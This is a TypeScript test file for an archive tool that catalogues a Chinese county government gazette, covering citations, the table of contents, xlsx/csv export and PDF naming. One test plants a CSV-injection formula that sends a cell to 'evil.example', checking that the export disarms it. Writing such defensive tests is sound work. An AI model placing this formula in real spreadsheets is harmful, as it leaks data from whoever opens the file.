// The sample issue: citations both ways, the 目录 view, and the 档案目录 as xlsx and csv.
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvField } from '../../../src/main/archive-work/csv'
import { safeFileName } from '../../../src/main/archive-work/issue-pdfs'
import { cli } from '../cli/run-cli'
import { SAMPLE_TEXT, fixture, idOf, tempArchive, upload, type TempArchive } from './helpers'

const HEADER = ['件号', '责任者', '文号', '题名', '日期', '起止页', '页数', '公报名称/期', '栏目', '文种', '公开属性', '保管期限', '备注']

/** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"'
      i++
    } else if (quoted && c === '"') quoted = false
    else if (quoted || (c !== '"' && c !== ',' && c !== '\r')) field += c
    else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(field)
      field = ''
    } else if (text[i + 1] === '\n') {
      rows.push([...row, field])
      row = []
      field = ''
      i++
    } else field += c
  }
  return rows
}

/** Rows of the first sheet as a spreadsheet library (exceljs) reads them. */
async function readXlsx(bytes: Buffer): Promise<string[][]> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(bytes as unknown as ArrayBuffer)
  const sheet = book.worksheets[0]
  expect(sheet.name).toBe('档案目录')
  const rows: string[][] = []
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))))
  return rows
}

let t: TempArchive
let issueId: number

beforeAll(async () => {
  t = tempArchive()
  await t.api.importFiles({ sources: [upload('xingxian-2022-02.txt', SAMPLE_TEXT)] })
  issueId = (await t.api.listIssues({}))[0].id
})
afterAll(() => t.close())

describe('the sample issue', () => {
  it('兴政发〔2022〕10号 is cited by two documents of the same issue, and they cite it', async () => {
    const id = await idOf(t.api, '兴政发〔2022〕10号')
    const doc = await t.api.getDocument({ id })
    expect(doc.citedBy).toHaveLength(2)
    for (const src of doc.citedBy) {
      const citing = await t.api.getDocument({ id: src.id })
      expect(citing.issueId).toBe(doc.issueId)
      expect(citing.citations).toContainEqual({ docNumber: '兴政发〔2022〕10号', targetId: id })
    }
  })

  it('the 目录 comes back as printed, every entry linked to its document', async () => {
    const { issue, toc } = await t.api.getIssueToc({ issueId })
    // 46 entries as printed; 兴政办函〔2022〕17号 has no body in the issue, and the warning says so.
    expect(toc).toHaveLength(46)
    expect(toc.filter((e) => e.documentId === null).map((e) => e.docNumber)).toEqual(['兴政办函〔2022〕17号'])
    expect(toc.every((e) => e.page !== null && e.category)).toBe(true)
    expect(toc[0]).toMatchObject({ category: '县政府文件', docNumber: '兴政发〔2022〕8号', page: 1, documentId: await idOf(t.api, '兴政发〔2022〕8号') })
    expect(issue.warnings.map((w) => w.code)).toContain('TOC_ENTRY_WITHOUT_BODY')
  })

  it('the xlsx catalogue holds a header and 45 rows', async () => {
    const file = await t.api.exportCatalogue({ scope: { all: true }, format: 'xlsx' })
    expect(file.fileName).toBe('兴县人民政府公报_档案目录.xlsx')
    const rows = await readXlsx(Buffer.from(file.bytesBase64, 'base64'))
    expect(rows).toHaveLength(46)
    expect(rows[0]).toEqual(HEADER)
    expect(rows[1].slice(0, 8)).toEqual(['1', '兴县人民政府', '兴政发〔2022〕8号', '兴县人民政府关于印发全面落实保障农民工工资支付相关制度的通知', '2022-05-12', '1-4', '4', '兴县人民政府公报2022年第2期（总第4期）'])
    expect(rows.slice(1).map((r) => r[0])).toEqual(Array.from({ length: 45 }, (_, i) => String(i + 1)))
  })

  it('the csv catalogue starts with a BOM, uses CRLF and round-trips through a CSV parser', async () => {
    const file = await t.api.exportCatalogue({ scope: { issueId }, format: 'csv' })
    const bytes = Buffer.from(file.bytesBase64, 'base64')
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = bytes.toString('utf8').slice(1)
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/)
    const rows = parseCsv(text)
    expect(rows).toHaveLength(46)
    expect(rows[0]).toEqual(HEADER)
    const xlsx = await readXlsx(Buffer.from((await t.api.exportCatalogue({ scope: { issueId }, format: 'xlsx' })).bytesBase64, 'base64'))
    expect(rows).toEqual(xlsx)
  })

  it('exports a formula-looking title as text, never as a live formula (OWASP CSV injection)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&B3,"点此查看")'
    const other = tempArchive()
    try {
      await other.api.importFiles({ sources: [upload('xingxian-2022-02.txt', SAMPLE_TEXT)] })
      const id = (await other.api.listDocuments({ offset: 0, limit: 1 })).items[0].id
      await other.api.correctDocument({ id, changes: { title: evil, docNumber: '-1+1', issuer: '@SUM(1)' }, editor: '测试' })
      const csv = await other.api.exportCatalogue({ scope: { all: true }, format: 'csv' })
      const rows = parseCsv(Buffer.from(csv.bytesBase64, 'base64').toString('utf8').slice(1))
      const row = rows.find((r) => r[3].includes('HYPERLINK')) as string[]
      expect(row.slice(1, 4)).toEqual([`'@SUM(1)`, `'-1+1`, `'${evil}`])
      // The xlsx writer stores every text as a string: no cell is a formula (<f>).
      const xlsx = await other.api.exportCatalogue({ scope: { all: true }, format: 'xlsx' })
      const zip = await JSZip.loadAsync(Buffer.from(xlsx.bytesBase64, 'base64'))
      const strings = await zip.file('xl/sharedStrings.xml')?.async('string')
      expect(strings).toContain('=HYPERLINK(&quot;http://evil.example')
      expect(await zip.file('xl/worksheets/sheet1.xml')?.async('string')).not.toMatch(/<f[ >]/)
    } finally {
      other.close()
    }
  })

  it('quotes CSV fields per RFC 4180 and disarms formula starts', () => {
    expect(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(csvField)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", `"'\r=1"`])
    expect(csvField(-3)).toBe('-3')
    expect(csvField('兴政发〔2022〕8号')).toBe('兴政发〔2022〕8号')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('说"明"')).toBe('"说""明"""')
    expect(csvField('两\r\n行')).toBe('"两\r\n行"')
    expect(parseCsv(`${['a,b', '说"明"', '两\r\n行'].map(csvField).join(',')}\r\n`)).toEqual([['a,b', '说"明"', '两\r\n行']])
  })
})

describe('one PDF per document', () => {
  it('names files 序号-文号-标题.pdf, safe for Windows', () => {
    expect(safeFileName(3, '兴政发〔2022〕8号', '关于“A/B”：测试*的通知?')).toBe('03-兴政发〔2022〕8号-关于“A_B”：测试_的通知_.pdf')
    expect(safeFileName(12, null, '标题. ')).toBe('12-无文号-标题.pdf')
  })

  it('CLI: export --issue writes one PDF each; catalogue writes the csv', async () => {
    const db = join(t.dir, 'cli.db')
    const src = join(t.dir, '2020-01.txt')
    writeFileSync(src, fixture('xingxian-2020-01.txt'))
    expect(cli('import', src, '--db', db).code).toBe(0)
    const out = join(t.dir, 'pdfs')
    const r = cli('export', '--issue', '1', '--db', db, '--out', out)
    expect(r.code).toBe(0)
    expect(readdirSync(out).sort()).toEqual([
      '01-兴政发〔2020〕5号-关于印发兴县农村饮水安全管理办法的通知.pdf',
      '02-兴政发〔2020〕6号-关于印发兴县城区供暖管理办法的通知.pdf',
    ])
    const csv = join(t.dir, 'catalogue.csv')
    expect(cli('catalogue', '--db', db, '--issue', '1', '--format', 'csv', '--out', csv).code).toBe(0)
    expect(existsSync(csv)).toBe(true)
    expect(parseCsv(readFileSync(csv, 'utf8').slice(1))).toHaveLength(3)
  })
})
